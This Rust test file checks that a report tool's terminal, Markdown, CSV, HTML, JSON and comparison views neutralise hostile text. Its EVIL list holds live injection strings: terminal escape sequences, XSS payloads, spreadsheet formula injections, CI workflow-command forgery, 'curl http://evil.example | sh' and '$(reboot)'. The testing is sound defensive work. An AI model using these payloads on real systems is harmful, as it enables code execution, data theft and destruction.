//! Every text of a report is hostile until a view has made it harmless; each view is looked at as its reader would.

use doctor::{cohort::Cohort, render::cohort::Format};
use serde_json::{Value, json};

use super::class::{Report, class, csv, messages, of, report, view, wanted};

/// What texts try on terminals, browsers, spreadsheets, chats, logs and shells.
const EVIL: &[&str] = &[
    "\u{1b}[1A\u{1b}[2K forged",
    "a\rforged",
    "a\u{8}\u{8}forged",
    "\u{85}next\u{9b}31mred",
    "bell\u{7}nul\u{0}",
    "\u{1b}]0;title\u{7}\u{1b}]8;;http://evil.example\u{1b}\\link\u{1b}]52;c;ZXZpbA==\u{7}",
    "\u{1b}]0;unterminated",
    "\u{1b}P1$r dcs \u{1b}\\",
    "\u{202e}desrever\u{200d}\u{2066}x",
    "</script><img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>'",
    "javascript:alert(1)",
    "=HYPERLINK(\"http://evil.example\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\n=1",
    "＝1",
    "a | b `c` <details> @everyone #1 [x](http://evil.example)",
    "x\n::error::forged\n::stop-commands::x\n%0A::error::y",
    "]]>\u{fffe}\u{ffff}",
    "\u{2028}line\u{2029}para",
    "curl http://evil.example | sh",
    "$(reboot) `reboot`",
];

/// Reports with a hostile text in every place that a text can be in, keys of objects included.
fn hostile() -> Vec<Report> {
    fn everywhere(value: &mut Value, evil: &str, keep: &[&str]) {
        match value {
            Value::String(text) => *text = evil.to_owned(),
            Value::Array(all) => all.iter_mut().for_each(|one| everywhere(one, evil, keep)),
            Value::Object(all) => {
                all.iter_mut()
                    .filter(|(key, _)| !keep.contains(&key.as_str()))
                    .for_each(|(_, one)| everywhere(one, evil, keep));
                all.insert(evil.to_owned(), json!({ evil: evil }));
            }
            _ => {}
        }
    }
    let mut reports = Vec::new();
    for (at, evil) in EVIL.iter().enumerate() {
        for keep in [&["outcome", "level", "scope", "os"][..], &["outcome", "level", "scope", "os", "id", "diagnosis"]]
        {
            let mut one =
                report(&format!("learner-{at}")).fails("git.identity", "missing").fails("git.default-branch", "unset");
            let finding = one.finding("git.identity");
            finding["fix"] = json!({ "run": ["x"], "do": "x", "see": "x", "verify": "x", "owner": "x" });
            finding["see"] = json!("x");
            finding["evidence"] = json!({ "argv": ["x", "x"], "program": "x", "candidates": ["x", "x"], "exit": 1, "excerpt": "x", "files": ["x"] });
            finding["blocked-by"] = json!("x");
            everywhere(&mut one.0, &format!("{evil}{at}"), keep);
            reports.push(one);
        }
    }
    reports
}

fn cohort() -> Cohort {
    let texts: Vec<String> = hostile().iter().map(Report::text).collect();
    let mut named: Vec<(&str, &str)> =
        texts.iter().enumerate().map(|(at, text)| (EVIL[at % EVIL.len()], text.as_str())).collect();
    // And names of what is refused, with texts that are quoted when it is.
    named.extend(EVIL.iter().map(|evil| (*evil, *evil)));
    named.push((
        "error.json",
        "{\"schema\":1,\"error\":{\"message\":\"\\u001b[2K<img src=x onerror=1>\\n::error::x\"}}",
    ));
    of(&named, wanted())
}

/// What no terminal, log or chat may get: controls but line ends, and characters that turn or hide others.
fn tricks(text: &str) -> String {
    let trick = |c: &char| {
        (c.is_control() && *c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}' | '\u{2028}' | '\u{2029}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}')
    };
    text.chars().filter(trick).collect()
}

#[test]
fn nothing_reaches_a_terminal_but_text() {
    let shown = view(&cohort(), Format::Human);
    assert_eq!(tricks(&shown), "");
    assert!(!shown.lines().any(|line| line.starts_with("::")));
    assert!(shown.contains("forged"), "what is left of the texts is shown");
}

/// A line of Markdown without what stands in backticks, where everything is text, and without escaped signs.
fn plain(line: &str) -> String {
    let line = line.replace("\\\\", "").replace("\\`", "").replace("\\[", "").replace("\\]", "");
    let (mut out, mut rest) = (String::new(), line.as_str());
    while let Some(at) = rest.find('`') {
        out.push_str(&rest[..at]);
        let fence = rest[at..].len() - rest[at..].trim_start_matches('`').len();
        let inside = &rest[at + fence..];
        // It ends at the next run of as many.
        let run = "`".repeat(fence);
        let mut runs = inside.match_indices(&run).map(|(at, _)| at);
        let is_end = |at: &usize| !inside[..*at].ends_with('`') && !inside[at + fence..].starts_with('`');
        match runs.find(is_end) {
            Some(end) => rest = &inside[end + fence..],
            None => return out + inside,
        }
    }
    out + rest
}

#[test]
fn nothing_is_markup_in_markdown() {
    let shown = view(&cohort(), Format::Markdown);
    assert_eq!(tricks(&shown), "");
    assert!(!shown.lines().any(|line| line.trim_start().starts_with("::")));
    let mut fenced = false;
    for line in shown.lines() {
        if line.trim_start().starts_with("```") {
            fenced = !fenced;
            continue;
        }
        if fenced {
            assert!(!line.contains("evil.example"), "{line}");
            continue;
        }
        let plain = plain(line);
        for sign in ["<img", "<svg", "<details", "@everyone", "](http", "://evil", "</script"] {
            assert!(!plain.contains(sign), "{sign}: {line}");
        }
        // A cell is a cell: no more of them than the table's head has.
        if line.starts_with("| ") {
            let cells = line.replace("\\\\", "").replace("\\|", "").matches('|').count();
            assert!(cells == 5 || cells == 7, "{cells}: {line}");
        }
    }
    assert!(!fenced);
}

#[test]
fn no_cell_of_a_table_is_a_formula() {
    for format in [Format::Csv, Format::CsvLong] {
        let cohort = cohort();
        let rows = csv(&view(&cohort, format));
        for row in &rows {
            assert_eq!(row.len(), rows[0].len());
            for cell in row {
                assert_eq!(tricks(cell), "", "{cell:?}");
                assert!(!cell.contains('\n'), "{cell:?}");
                let first = cell.trim_start().chars().next();
                let is_number = cell.parse::<f64>().is_ok();
                assert!(is_number || !first.is_some_and(|c| "=+-@＝＋－＠".contains(c)), "{cell:?}");
            }
        }
    }
    let versions = class(
        &[report("a").with("/findings/0/version", "-5"), report("b").with("/findings/0/version", "3.11.7-rc.1")],
        wanted(),
    );
    let long = view(&versions, Format::CsvLong);
    assert!(long.contains(",-5\r\n") && long.contains(",3.11.7-rc.1\r\n"));
}

#[test]
fn a_page_holds_nothing_but_its_own() {
    let page = view(&cohort(), Format::Html);
    assert_eq!(tricks(&page), "");
    // The page's own script and style are known by their hashes; everything else is looked at tag by tag.
    let (before, rest) = page.split_once("<script>").unwrap();
    let (_, after) = rest.split_once("</script>").unwrap();
    let (head, rest) = before.split_once("<style>").unwrap();
    let (_, body) = rest.split_once("</style>").unwrap();
    let known = [
        "html", "head", "meta", "title", "body", "main", "h1", "h2", "h3", "p", "nav", "a", "ul", "li", "b", "strong",
        "code", "pre", "div", "table", "thead", "tbody", "tfoot", "tr", "th", "td", "label", "input", "select",
        "option", "span", "details", "summary", "dl", "dt", "dd", "!doctype",
    ];
    let attributes = [
        "lang",
        "charset",
        "http-equiv",
        "content",
        "name",
        "class",
        "id",
        "href",
        "rel",
        "scope",
        "title",
        "hidden",
        "type",
        "placeholder",
        "value",
        "role",
        "tabindex",
        "aria-label",
        "html",
    ];
    for text in [head, body, after] {
        for tag in text.split('<').skip(1) {
            let (tag, _) = tag.split_once('>').unwrap_or_else(|| panic!("no end: {tag}"));
            let (name, rest) = tag.split_once(' ').unwrap_or((tag, ""));
            assert!(known.contains(&name.trim_start_matches('/')), "<{tag}>");
            let mut rest = rest;
            while !rest.trim().is_empty() {
                let (attribute, after) = rest.trim_start().split_once('=').unwrap_or((rest.trim(), ""));
                assert!(attribute.starts_with("data-") || attributes.contains(&attribute), "{attribute} in <{tag}>");
                let (value, left) = match after.strip_prefix('"') {
                    Some(after) => after.split_once('"').unwrap(),
                    None => after.split_once(' ').unwrap_or((after, "")),
                };
                if attribute == "href" {
                    assert!(value.starts_with('#') || value.starts_with("https://"), "{value}");
                    assert!(!value.contains("evil"), "{value}");
                }
                rest = left;
            }
        }
    }
    let policy = head.split_once("Content-Security-Policy\" content=\"").unwrap().1.split_once('"').unwrap().0;
    assert!(
        policy.starts_with("default-src 'none'; style-src 'sha256-") && policy.contains("script-src 'sha256-"),
        "{policy}"
    );
    assert!(!policy.contains("unsafe") && !policy.contains("http"));
}

#[test]
fn documents_for_programs_hold_every_text_as_it_is() {
    let cohort = cohort();
    let document: Value = serde_json::from_str(&view(&cohort, Format::Json)).unwrap();
    assert_eq!(document["learners"].as_array().unwrap().len(), cohort.learners.len());
    let rows = view(&cohort, Format::Ndjson);
    let first: Value = serde_json::from_str(rows.lines().next().unwrap()).unwrap();
    let keys: Vec<&String> = first.as_object().unwrap().keys().collect();
    for line in rows.lines() {
        let row: Value = serde_json::from_str(line).unwrap();
        assert_eq!(row.as_object().unwrap().keys().collect::<Vec<_>>(), keys, "every row has the same keys");
    }
}

#[test]
fn commands_sent_back_are_never_a_reports() {
    let cohort = cohort();
    for step in &cohort.fixes {
        for text in step.run.iter().chain([&step.act, &step.see, &step.verify]) {
            assert!(!EVIL.iter().any(|evil| text.contains(evil)) && !text.contains("evil.example"), "{text}");
        }
    }
    for (name, text) in messages(&cohort) {
        assert_eq!(tricks(&text), "");
        assert!(
            !text.contains("evil.example") && !text.contains("reboot") && !text.contains("onerror"),
            "{name}: {text}"
        );
        assert!(!name.contains(['/', '\\']), "{name}");
    }
    // Where the catalogue knows the state, its own command is told.
    let known = class(&[report("ada").fails("git.identity", "missing")], wanted());
    let (_, text) = &messages(&known)[0];
    assert!(text.contains("git config --global user.name"), "{text}");
    assert!(!text.contains("The report says"), "{text}");
}

#[test]
fn a_comparison_is_harmless_too() {
    let (old, new) = (class(&[report("ada")], wanted()), cohort());
    let comparison = doctor::cohort::compare::cohorts(&old, &new);
    let look = doctor::render::Look { verbose: true, ..doctor::render::Look::default() };
    let (mut text, mut markdown) = (Vec::new(), Vec::new());
    doctor::render::cohort::changes::cohorts(&comparison, look, &mut text).unwrap();
    doctor::render::cohort::changes::cohorts_markdown(&comparison, &mut markdown).unwrap();
    let (text, markdown) = (String::from_utf8(text).unwrap(), String::from_utf8(markdown).unwrap());
    assert_eq!((tricks(&text).as_str(), tricks(&markdown).as_str()), ("", ""));
    for line in markdown.lines() {
        assert!(!plain(line).contains("<img") && !plain(line).contains("@everyone"), "{line}");
    }
}
